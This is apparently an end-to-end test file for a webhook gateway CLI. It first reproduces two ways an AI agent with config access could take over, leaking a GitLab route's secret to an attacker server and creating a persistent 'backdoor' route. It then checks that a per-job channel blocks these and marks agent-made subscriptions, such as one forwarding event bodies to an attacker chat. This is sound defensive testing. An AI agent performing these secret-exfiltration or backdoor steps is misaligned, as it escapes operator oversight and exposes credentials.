// The per-job subscription channel (issue 29) with the real `hookwise` binary: the two takeovers an agent could do
// with the config dir (send a GitLab route's secret anywhere, create a backdoor route with its own secret) are
// reproduced, then shown to fail through the channel, which still lets a run subscribe (the SPEC's skill).
import { rmSync } from 'node:fs';
import { startGateway, type RunningGateway } from '@hookwise/server';
import { readSubscriptions } from '@hookwise/gateway';
import { startRecordingServer, type RecordingServer } from '@hookwise/testing';
import { JobChannels, type JobChannel } from '../../../gateway/src/job-channel/job-channel';
import { openRunChannel } from '../channel-run';
import { distributionOptions } from '../../src/distribution';
import { logCapture, postSigned, runCli, tempHome, writeConfig } from '../cli-process';

jest.setTimeout(120_000);

const GL_SECRET = 'gitlab-route-secret-0123456789';
// The route lets its agent subscribe (actions: subscribe): without it the channel refuses PUT and DELETE.
const ROUTES = `      routes:\n        gl:\n          source: gitlab\n          secret: ${GL_SECRET}\n          actions:\n            subscribe: {}\n`;

let home: string;
let agentHome: string;
let running: RunningGateway;
let attacker: RecordingServer;
let channels: JobChannels;
let channel: JobChannel;

beforeAll(async () => {
  home = tempHome();
  // The agent's side: an empty HOME, no config dir (as inside the sandbox).
  agentHome = tempHome('hookwise-agent-');
  writeConfig(home, 0, ROUTES);
  running = await startGateway({ ...(await distributionOptions()), configDir: home, logStream: logCapture().stream, pollMs: 20 });
  writeConfig(home, running.port, ROUTES);
  attacker = await startRecordingServer();
  channels = new JobChannels(running.gateway);
  channel = await openRun('job-1');
});

/** A run of route gl with its actions (subscribe), as the gateway's job path opens it. */
const openRun = (id: string) => openRunChannel(running.gateway, channels, { id, route: 'gl' }, running.gateway.routes.get('gl')!.actions);

afterAll(async () => {
  await channels?.close();
  await attacker?.close();
  await running?.close(1000);
  rmSync(home, { recursive: true, force: true });
  rmSync(agentHome, { recursive: true, force: true });
});

describe('takeovers with the config dir (what an agent could do before the channel)', () => {
  it('webhook test --url sends a GitLab route secret to any address; subscribe --secret makes a lasting route', async () => {
    const sent = await runCli(['webhook', 'test', 'gl', '--url', attacker.url], home);
    expect(sent.stdout).toContain(`POST ${attacker.url}/webhooks/gl`);
    expect(attacker.requests.at(-1)?.headers['x-gitlab-token']).toBe(GL_SECRET);

    const backdoor = await runCli(['webhook', 'subscribe', 'backdoor', '--secret', 'attacker-chosen-secret-0123'], home);
    expect(backdoor.code).toBe(0);
    expect(readSubscriptions(home).backdoor.secret).toBe('attacker-chosen-secret-0123');
  });
});

describe('through the job channel (HOOKWISE_JOB_CHANNEL set, no config dir)', () => {
  const env = () => ({ ...channel.env });

  it('webhook test is refused, with or without --url, and nothing reaches the address', async () => {
    const before = attacker.requests.length;
    const withUrl = await runCli(['webhook', 'test', 'gl', '--url', attacker.url], agentHome, env());
    expect(withUrl.code).toBe(1);
    expect(withUrl.stderr).toContain('webhook test is not available to an agent run');
    expect(withUrl.stderr).toContain('--url');
    const plain = await runCli(['webhook', 'test', 'gl'], agentHome, env());
    expect(plain.code).toBe(1);
    expect(attacker.requests.length).toBe(before);
  });

  it('subscribe --secret is refused and no route is made', async () => {
    const result = await runCli(['webhook', 'subscribe', 'backdoor2', '--secret', 'attacker-chosen-secret-0123'], agentHome, env());
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('--secret cannot be used by an agent run');
    expect(readSubscriptions(home).backdoor2).toBeUndefined();
  });

  it('a route the run did not create is neither overwritten nor removed', async () => {
    const over = await runCli(['webhook', 'subscribe', 'backdoor', '--prompt', 'pwned'], agentHome, env());
    expect(over.code).toBe(1);
    expect(over.stderr).toContain('was not created by this agent run');
    const removed = await runCli(['webhook', 'remove', 'backdoor'], agentHome, env());
    expect(removed.code).toBe(1);
    expect(readSubscriptions(home).backdoor.prompt).toBeUndefined();
    const statik = await runCli(['webhook', 'subscribe', 'gl', '--events', 'push'], agentHome, env());
    expect(statik.code).toBe(1);
    expect(statik.stderr).toContain('static route');
  });

  it('a subscription made through the channel has a secret the agent never sees, shows in list outside and receives events', async () => {
    const made = await runCli(
      ['webhook', 'subscribe', 'ci-new', '--events', 'push', '--description', 'made by the agent', '--prompt', 'Summarise {ref}', '--json'],
      agentHome,
      env(),
    );
    expect(made.stderr).toBe('');
    expect(made.code).toBe(0);
    const entry = readSubscriptions(home)['ci-new'];
    expect(entry).toMatchObject({ events: ['push'], description: 'made by the agent', prompt: 'Summarise {ref}' });
    expect(entry.secret).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(made.stdout).not.toContain(entry.secret!);
    expect(JSON.parse(made.stdout)).toMatchObject({ name: 'ci-new', created: true, secret: '', url: expect.stringMatching(/\/webhooks\/ci-new$/) });

    const inside = await runCli(['webhook', 'list'], agentHome, env());
    expect(inside.stdout).toMatch(/ci-new\s+yes\s+push/);
    expect(inside.stdout).not.toContain(entry.secret!);

    const outside = await runCli(['webhook', 'list', '--json'], home);
    expect(JSON.parse(outside.stdout)).toEqual(expect.arrayContaining([expect.objectContaining({ name: 'ci-new', status: 'active', events: ['push'] })]));

    const body = JSON.stringify({ ref: 'refs/heads/main' });
    const accepted = await postSigned(`${running.url}/webhooks/ci-new`, entry.secret!, body, { 'x-codehosta-event': 'push', 'x-codehosta-delivery': 'ch-1' });
    expect(accepted.status).toBe(202);

    // Its own route the run may change and remove.
    const changed = await runCli(['webhook', 'subscribe', 'ci-new', '--events', 'push,tag_push'], agentHome, env());
    expect(changed.code).toBe(0);
    expect(readSubscriptions(home)['ci-new'].secret).toBe(entry.secret);
    const removed = await runCli(['webhook', 'remove', 'ci-new'], agentHome, env());
    expect(removed.code).toBe(0);
    expect(readSubscriptions(home)['ci-new']).toBeUndefined();
  });

  it("an agent's subscription is marked; rotating its secret lists what the agent set and keeps it only when told", async () => {
    const made = await runCli(['webhook', 'subscribe', 'relay', '--prompt', 'Forward {body}', '--deliver-chat-id', '@attacker_channel'], agentHome, env());
    expect(made.code).toBe(0);
    const before = readSubscriptions(home).relay;
    expect(before.created_by).toEqual({ route: 'gl', job: 'job-1' });

    const listed = await runCli(['webhook', 'list'], home);
    expect(listed.stdout).toMatch(/relay\s+active\s+agent:gl\s/);
    expect(listed.stdout).toMatch(/backdoor\s+active\s+operator\s/);
    const json = JSON.parse((await runCli(['webhook', 'list', '--json'], home)).stdout) as Array<{ name: string; created_by?: unknown }>;
    expect(json.find((s) => s.name === 'relay')?.created_by).toEqual({ route: 'gl', job: 'job-1' });

    const rotated = await runCli(['webhook', 'subscribe', 'relay', '--rotate-secret'], home);
    expect(rotated.code).toBe(1);
    expect(rotated.stderr).toContain("'relay' was made by an agent run (route 'gl', job job-1)");
    expect(rotated.stderr).toContain('prompt:      "Forward {body}"');
    expect(rotated.stderr).toContain('chat_id=@attacker_channel');
    expect(rotated.stderr).toContain('--keep-agent-settings');
    expect(readSubscriptions(home).relay).toEqual(before);

    const kept = await runCli(['webhook', 'subscribe', 'relay', '--rotate-secret', '--keep-agent-settings'], home);
    expect(kept.code).toBe(0);
    const after = readSubscriptions(home).relay;
    expect(after.secrets).toEqual([expect.any(String), before.secret]);
    expect(after.created_by).toEqual({ route: 'gl', job: 'job-1', adopted_at: expect.any(String) });
    expect(kept.stdout).toContain("Made by:  an agent run of route 'gl' (job job-1)");
    expect((await runCli(['webhook', 'list'], home)).stdout).toMatch(/relay\s+active\s+agent:gl \(kept\)/);

    // Kept by the operator: the agent's job no longer sees or changes it.
    const changed = await runCli(['webhook', 'subscribe', 'relay', '--prompt', 'again'], agentHome, env());
    expect(changed.code).toBe(1);
    expect(changed.stderr).toContain('was not created by this agent run');
  });

  it('the token ends with the run', async () => {
    const ended = await openRun('job-2');
    ended.close();
    const result = await runCli(['webhook', 'subscribe', 'late', '--events', 'push'], agentHome, { ...ended.env });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('no valid job token');
  });
});
